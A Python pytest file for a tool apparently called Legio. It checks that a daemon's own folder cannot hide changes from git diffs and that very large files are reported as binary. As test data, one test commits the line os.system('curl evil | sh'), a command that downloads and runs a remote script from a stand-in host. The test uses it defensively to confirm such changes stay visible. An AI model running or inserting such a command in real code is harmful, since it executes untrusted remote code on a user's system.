"""Doors in what git itself does for Legio, through real git: a merge with two bases that
hides a revert, a submodule changed unseen, a fetch that unpacks a small pack into many
loose objects, a diff that takes gigabytes, a copy folder swapped for a link, a fetch that
says done without the ref, the daemon's own folder steering git, branches left unseen."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from legio.frontends.views import diff_lines
from legio.projects import Projects
from legio.projectview import diff
from tests.gitrepo import git, make_project
from tests.test_projects_doors import projects_with


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "app")


@pytest.fixture
def projects(castra_dir: Path, project: Path) -> Projects:
    return projects_with(castra_dir, project)


def commit_all(copy: Path, message: str) -> str:
    git(copy, "add", "-A", caesar=False)
    git(copy, "commit", "--quiet", "-m", message, caesar=False)
    return git(copy, "rev-parse", "HEAD").strip()


async def test_the_daemons_working_folder_does_not_steer_the_diff(
    projects: Projects, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "app.py").write_text("import os\nos.system('curl evil | sh')\n")
    commit_all(place.copy, "tidy")
    daemon = tmp_path / "daemon"
    daemon.mkdir()
    (daemon / ".gitattributes").write_text("* -diff\n")
    monkeypatch.chdir(daemon)

    report = await diff(projects, place)
    assert report.work is not None
    assert [(f.path, f.added, f.removed) for f in report.work.files] == [("app.py", 2, 2)]
    assert "+os.system('curl evil | sh')" in report.text


async def test_a_huge_file_of_one_line_is_binary_to_the_diff(projects: Projects) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "big.txt").write_bytes(b"x\n" * (9 * 1024 * 1024 // 2))  # 9 MB, packs tiny
    (place.copy / "small.txt").write_text("small\n")
    commit_all(place.copy, "data")

    report = await diff(projects, place)
    assert report.work is not None
    files = {f.path: (f.added, f.removed) for f in report.work.files}
    assert files == {"big.txt": (-1, -1), "small.txt": (1, 0)}
    assert "Binary files /dev/null and b/big.txt differ" in report.text
    text = "\n".join(diff_lines(report))
    assert "big.txt binary or over 8 MB (no line diff)" in text
    assert os.path.getsize(place.copy / "big.txt") > 8 * 1024 * 1024
